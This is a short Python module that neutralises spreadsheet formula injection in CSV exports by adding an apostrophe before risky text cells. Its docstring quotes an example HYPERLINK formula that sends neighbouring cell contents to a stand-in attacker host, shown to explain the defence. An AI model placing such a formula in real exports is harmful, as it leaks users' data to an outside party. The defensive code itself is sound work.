"""CSV that a spreadsheet opens as data, never as formulas (OWASP, "CSV Injection").

HR opens the export in a spreadsheet, which evaluates a cell starting with ``=``, ``+``,
``-`` or ``@`` (and, after a tab or carriage return, still does in some programs): a
catalogue title ``=HYPERLINK("http://evil.example/?"&A1, "Open")`` becomes a link that
leaks the neighbouring cells. Such a text cell is written with a leading apostrophe,
which spreadsheets show as text and do not display; numbers, booleans and the Parquet
export keep their values as they are.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy in which every text cell that a spreadsheet would take for a formula
    starts with ``'``; non-text columns are untouched."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
            continue
        text = values.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_STARTS))
        if text.any():
            out[column] = values.astype(object).where(~text, "'" + values.astype(str))
    return out
